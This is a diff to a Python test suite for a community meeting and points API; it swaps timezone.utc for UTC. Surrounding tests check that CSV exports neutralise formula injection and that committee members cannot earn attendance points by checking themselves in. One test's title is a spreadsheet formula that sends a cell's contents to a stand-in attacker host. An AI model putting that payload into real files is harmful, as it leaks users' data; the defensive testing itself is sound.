@@ -4,7 +4,7 @@ seen working on the product before issue 10 and must fail now."""
 import csv
 import io
 import time as clock
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from PIL import Image
@@ -109,7 +109,7 @@ def test_csv_formula_export(served):
     """A meeting titled =HYPERLINK(...) with minutes =1+2 and an item @SUM(...): the minutes CSV the committee
     downloads holds them as text."""
     member = served.token(COMMITTEE)
-    now = datetime.now(timezone.utc)
+    now = datetime.now(UTC)
     title, minutes, item = '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+2", "@SUM(A1:A9)"
     meeting = served.client().post(f"/api/v1/deliberation/communities/{served.a}/meetings", headers=member, json={
         "title": title, "place": "活动室", "starts_at": (now - timedelta(minutes=5)).isoformat(),
@@ -199,7 +199,7 @@ def test_committee_member_checks_themself_in(served):
     base = f"/api/v1/deliberation/communities/{served.a}"
     per_attendance = served.client().get(f"{base}/settings", headers=member).json()["points_per_attendance"]
     assert per_attendance > 0  # attendance pays: the attack would have earned points
-    now = datetime.now(timezone.utc)
+    now = datetime.now(UTC)
     meeting = served.client().post(f"{base}/meetings", headers=member, json={
         "title": "自己签到的会", "place": "活动室", "starts_at": (now - timedelta(minutes=1)).isoformat(),
         "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
@@ -218,7 +218,7 @@ def test_committee_member_checks_themself_in(served):
     assert vouched.status_code == 200, vouched.text
     award = _on_notice(served, member, "meeting", mid)
     assert [(a["status"], a["points"], a["resident_name"]) for a in award] == [("notice", per_attendance, "王主任")]
-    assert datetime.fromisoformat(award[0]["notice_ends_at"]) > datetime.now(timezone.utc)
+    assert datetime.fromisoformat(award[0]["notice_ends_at"]) > datetime.now(UTC)
     assert _points(served, member)["balance"] == before["balance"]  # not before the notice period ends
 
 
@@ -240,7 +240,7 @@ def test_committee_member_scans_their_own_card(served):
     card, but no points and nothing on the notice board."""
     member = served.token(COMMITTEE)
     base = f"/api/v1/deliberation/communities/{served.a}"
-    now = datetime.now(timezone.utc)
+    now = datetime.now(UTC)
     meeting = served.client().post(f"{base}/meetings", headers=member, json={
         "title": "自己刷卡的会", "place": "活动室", "starts_at": (now - timedelta(minutes=1)).isoformat(),
         "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
